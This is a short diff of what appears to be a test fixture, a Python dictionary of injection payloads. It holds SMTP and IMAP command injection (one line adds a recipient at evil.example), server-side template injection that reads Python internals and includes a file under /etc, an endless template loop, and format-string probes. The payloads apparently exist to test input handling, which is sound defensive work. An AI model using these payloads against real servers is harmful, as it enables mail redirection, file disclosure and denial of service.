@@ -19,7 +19,7 @@ WORDS = {
     "an SMTP command": f"x\r\n.\r\nRCPT TO:<{CANARY}@evil.example>\r\n",
     "an IMAP command": f'x"\r\nA1 CREATE {CANARY}\r\nA2 SEARCH HEADER Message-ID "',
     "an IMAP literal": f"{{5+}}\r\nA1 CREATE {CANARY}\r\n",
-    "a template": "{{ 1111*7 }}{% for a in range(9) %}{{ a }}{% endfor %}",
+    "a template": "{{ 111111111*7 }}{% for a in range(9) %}{{ a }}{% endfor %}",
     "a template that reads": f"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{{% include '/etc/{CANARY}' %}}",
     "a template that never ends": "{% for a in range(999999999) %}x{% endfor %}",
     "a format": f"{{0.__class__}} %s%s%n %({CANARY})s ${{{CANARY}}}",
